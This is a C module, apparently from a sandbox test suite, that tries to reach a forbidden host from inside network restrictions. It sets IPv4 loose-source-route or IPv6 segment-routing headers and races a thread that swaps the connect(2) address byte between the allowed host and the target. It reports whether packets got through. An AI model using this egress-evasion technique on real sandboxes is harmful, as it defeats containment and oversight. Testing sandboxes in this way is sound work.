/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The packet's destination is the allowed host, its header says where that
 * host shall send it on: source routing options (RFC 791) and segment routing
 * (RFC 8754). Setting them needs no privilege. The address that connect(2) is
 * given is then the last hop, so that it must be swapped as in attack_swap.c;
 * what leaves has the allowed address all the same.
 */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <netinet/ip.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <unistd.h>

static union {
	struct sockaddr_in in4;
	struct sockaddr_in6 in6;
} swapped;
static volatile uint8_t *last_byte;
static uint8_t bytes[2]; /* the allowed host's, the target's */
static atomic_bool stop;

static void *swapper(void *unused)
{
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		for (int i = 0; i < 64; i++) {
			*last_byte = bytes[0];
			*last_byte = bytes[1];
		}
	}
	return unused;
}

/* The first packet has left when nobody refused it: it is either answered by
 * the target itself, or its answer can't find the way back. */
static bool has_left(int fd)
{
	struct pollfd pfd = {.fd = fd, .events = POLLOUT};
	struct sockaddr_storage peer;
	socklen_t len = sizeof(peer);

	return poll(&pfd, 1, 2) == 0 ||
	       getpeername(fd, (struct sockaddr *)&peer, &len) == 0;
}

static enum verdict race(const struct scene *s, int family, int level, int name,
			 const void *option, socklen_t len)
{
	const struct linger reset = {.l_onoff = 1};
	int64_t end = now_us() + 20 * 1000000;
	unsigned int i, sent = 0;
	pthread_t thread;

	if (pthread_create(&thread, NULL, swapper, NULL) != 0)
		return say(UNTRIED, "no second thread");
	for (i = 0; i < s->tries && now_us() < end; i++) {
		int fd = new_socket(family, SOCK_STREAM | SOCK_NONBLOCK, 0);

		setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
		if (setsockopt(fd, level, name, option, len) != 0) {
			atomic_store(&stop, true);
			return failed("routing option");
		}
		if (connect(fd, (const void *)&swapped, sizeof(swapped)) != 0 &&
		    errno == EINPROGRESS && has_left(fd))
			sent++;
		close(fd);
	}
	atomic_store(&stop, true);
	pthread_join(thread, NULL);
	return say(sent ? THROUGH : REFUSED, "%u tries, %u of them left", i,
		   sent);
}

/* Loose: a strict route's first hop would have to be on the sandbox's link. */
static enum verdict lsrr(const struct scene *s)
{
	/* no-op for alignment, then kind, length, pointer, the first hop */
	uint8_t option[8] = {IPOPT_NOP, IPOPT_LSRR, 7, 4};

	memcpy(option + 4, &s->allowed4.sin_addr, 4);
	swapped.in4 = s->allowed4;
	swapped.in4.sin_port = s->closed_port;
	last_byte = (uint8_t *)&swapped.in4.sin_addr + 3;
	bytes[0] = *last_byte;
	bytes[1] = ((const uint8_t *)&s->target4.sin_addr)[3];
	return race(s, AF_INET, IPPROTO_IP, IP_OPTIONS, option, sizeof(option));
}

static enum verdict srh(const struct scene *s)
{
	/* RFC 8754, 2: the last segment comes first, and the kernel writes the
	 * address of connect(2) there */
	struct {
		uint8_t next, len, type, left, last, flags;
		uint16_t tag;
		struct in6_addr segments[2];
	} route = {
		.len = 4,
		.type = 4,
		.left = 1,
		.last = 1,
		.segments = {s->target6.sin6_addr, s->allowed6.sin6_addr},
	};

	swapped.in6 = s->allowed6;
	swapped.in6.sin6_port = s->closed_port;
	last_byte = &swapped.in6.sin6_addr.s6_addr[15];
	bytes[0] = *last_byte;
	bytes[1] = s->target6.sin6_addr.s6_addr[15];
	return race(s, AF_INET6, IPPROTO_IPV6, IPV6_RTHDR, &route,
		    sizeof(route));
}

const struct attack attack_route = {
	"route",
	(const struct mode[]){{"lsrr", lsrr}, {"srh", srh}, {0}},
};
